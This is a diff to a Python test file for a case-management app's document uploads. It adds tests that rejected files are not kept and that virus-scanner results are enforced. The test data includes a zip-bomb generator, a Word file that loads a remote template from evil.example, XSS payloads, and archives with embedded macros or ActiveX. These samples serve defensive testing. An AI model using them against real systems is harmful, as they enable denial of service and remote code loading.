@@ -12,6 +12,7 @@ from django.utils import timezone
 from agencies.access import PolicyGroup as G
 from audit.models import Event, Verb
 from cases.models import ChildVoice, Document, Note, SafetyPlan, TimelineEntry
+from dashub.clamav import Unavailable
 from tests.cases.scene import MARK
 
 pytestmark = pytest.mark.django_db
@@ -166,6 +167,8 @@ def send(client, family, content, name="letter.pdf", **changes):
         (DOCX, "docx"),
         ("Grüße\r\n".encode(), "txt"),
         (archive("[Content_Types].xml", "xl/workbook.xml"), "xlsx"),
+        (archive("[Content_Types].xml", "word/document.xml", "word/embeddings/sheet1.xlsx"), "docx"),
+        (b"I said 3 < 4 and left.", "txt"),
     ],
 )
 def test_the_content_decides_what_a_file_is(family, as_worker, content, ending):
@@ -185,6 +188,29 @@ def broken() -> bytes:
     return bytes(content)
 
 
+WORD = ("[Content_Types].xml", "word/document.xml")
+
+
+def bomb() -> bytes:
+    """A small file that unpacks to very much."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
+        zipped.writestr("[Content_Types].xml", "")
+        zipped.writestr("word/document.xml", b"\0" * (301 * 1024 * 1024))
+    return out.getvalue()
+
+
+def templated(where: str) -> bytes:
+    """A document that loads its template from somewhere."""
+    relation = f'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" {where}/>'
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zipped:
+        for name in WORD:
+            zipped.writestr(name, "x")
+        zipped.writestr("word/_rels/settings.xml.rels", relation)
+    return out.getvalue()
+
+
 @pytest.mark.parametrize(
     ("content", "name", "message"),
     [
@@ -194,7 +220,23 @@ def broken() -> bytes:
         (b"<script>alert(1)</script>", "page.txt", "not what its name says"),
         (b"  <!DOCTYPE html><html></html>", "page.pdf", "not what its name says"),
         (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.png", "not what its name says"),
+        (b"<?xml version='1.0'?><svg/>", "a.txt", "not what its name says"),
+        (b"\xef\xbb\xbf\n<!-- --><body onload=alert(1)>", "a.txt", "not what its name says"),
+        (b"<img src=x onerror=alert(1)>", "a.txt", "not what its name says"),
+        (b"{\\rtf1\\ansi}", "a.txt", "not what its name says"),
         (b"\xff\xfe\x00binary\x00", "a.txt", "not what its name says"),
+        (PDF + DOCX, "a.pdf", "not what its name says"),
+        (PNG + archive("run.js"), "a.png", "not what its name says"),
+        (bomb(), "a.docx", "not what its name says"),
+        (archive(*(f"word/{n}.xml" for n in range(5001)), *WORD), "a.docx", "not what its name says"),
+        (archive(*WORD, "xl/macrosheets/sheet1.xml"), "a.xlsx", "macros or a program"),
+        (archive(*WORD, "word/activeX/activeX1.xml"), "a.docx", "macros or a program"),
+        (archive(*WORD, "word/embeddings/oleObject1.bin"), "a.docx", "macros or a program"),
+        (archive(*WORD, "word\\embeddings\\oleObject1.bin"), "a.docx", "macros or a program"),
+        (archive(*WORD, "word/media/image1.SVG"), "a.docx", "macros or a program"),
+        (archive("mimetype", "Basic/Standard/Module1.xml"), "a.odt", "macros or a program"),
+        (archive("mimetype", "Scripts/python/run.py"), "a.odt", "macros or a program"),
+        (templated('TargetMode="External"'), "a.docx", "macros or a program"),
         (archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "a.docx", "macros or a program"),
         (archive("setup.exe"), "a.zip", "macros or a program"),
         (archive("readme"), "a.zip", "not what its name says"),
@@ -242,6 +284,35 @@ def test_the_same_upload_twice_is_kept_once(family, as_worker):
     for _ in range(2):
         send(as_worker(G.EDUCATION), family, PDF)
     assert Document.objects.count() == 1
+
+
+@pytest.mark.parametrize(
+    ("answer", "words", "kind"),
+    [
+        ("Win.Test.EICAR_HDB-1", "found something harmful", "infected_upload"),
+        (Unavailable(), "could not be checked for viruses", "unscanned_upload"),
+    ],
+)
+def test_what_the_scanner_does_not_call_clean_is_not_kept(family, as_worker, monkeypatch, caplog, answer, words, kind):
+    def scan(file):
+        if isinstance(answer, Exception):
+            raise answer
+        return answer
+
+    monkeypatch.setattr("dashub.clamav.scan", scan)
+    response = send(as_worker(G.EDUCATION), family, PDF, "Zephyrine.pdf")
+    assert response.status_code == 200 and words in response.content.decode()
+    assert not Document.objects.exists()
+    (line,) = [record.about for record in caplog.records if record.name == "hub.security"]
+    assert (line["kind"], line["user"]) == (kind, family.workers[G.EDUCATION].pk)
+    assert line["view"] == "case-documents-add" and "Zephyrine" not in str(line)
+
+
+def test_what_the_scanner_calls_clean_is_kept(family, as_worker, monkeypatch):
+    asked = []
+    monkeypatch.setattr("dashub.clamav.scan", lambda file: asked.append(file.read()) or "")
+    assert send(as_worker(G.EDUCATION), family, PDF).status_code == 302
+    assert asked == [PDF] and Document.objects.get().size == len(PDF)
 
 
 # --- Timeline --------------------------------------------------------------------------------------------------------
